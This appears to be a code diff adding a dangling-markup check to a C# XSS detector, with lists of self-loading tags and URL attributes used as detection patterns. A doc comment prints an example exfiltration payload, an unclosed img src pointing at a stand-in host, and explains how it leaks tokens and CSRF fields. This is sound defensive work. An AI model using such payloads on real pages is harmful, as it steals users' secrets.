@@ -79,6 +79,54 @@ internal static class XssDetector
         if (m.Has('<'))
         {
             SpacedTagNames(t, ref sink);
+            if (m.Has('=') && (m.Has('"') || m.Has('\'')))
+            {
+                DanglingMarkup(t, ref sink);
+            }
+        }
+    }
+
+    /// <summary>
+    /// Dangling markup: a tag the browser loads by itself whose URL attribute opens a quote that the value never closes
+    /// ('&lt;img src="https://x.example/log?html='). The browser reads the page after the injection point into the URL up to the
+    /// next such quote and sends it to that host (tokens, CSRF fields), with no script and no click.
+    /// </summary>
+    private static void DanglingMarkup(scoped ReadOnlySpan<char> t, ref FindingSink sink)
+    {
+        var last = t.LastIndexOf('<');
+        if (last < 0)
+        {
+            return;
+        }
+
+        var tag = t[(last + 1)..];
+        var name = 0;
+        while (name < tag.Length && char.IsAsciiLetter(tag[name]))
+        {
+            name++;
+        }
+
+        // Only tags the browser loads by itself (a link or a form waits for a click).
+        if (tag[..name] is not ("img" or "link" or "meta" or "base" or "iframe" or "input" or "table" or "td" or "body" or "frame" or "video" or "image"))
+        {
+            return;
+        }
+
+        foreach (var attribute in (ReadOnlySpan<string>)[" src=", " href=", " action=", " background=", " content=", " formaction=", " ping=", " poster="])
+        {
+            var a = tag.IndexOf(attribute, StringComparison.Ordinal);
+            if (a < 0 || a + attribute.Length >= tag.Length || tag[a + attribute.Length] is not ('"' or '\''))
+            {
+                continue;
+            }
+
+            var quote = tag[a + attribute.Length];
+            var url = tag[(a + attribute.Length + 1)..];
+            if (url.IndexOf(quote) < 0 && (url.StartsWith("http") || url.StartsWith("//") || url.Contains("url=http", StringComparison.Ordinal)))
+            {
+                sink.Add(RuleKey.XssDangerousTag, last, t.Length - last);
+                return;
+            }
         }
     }
 
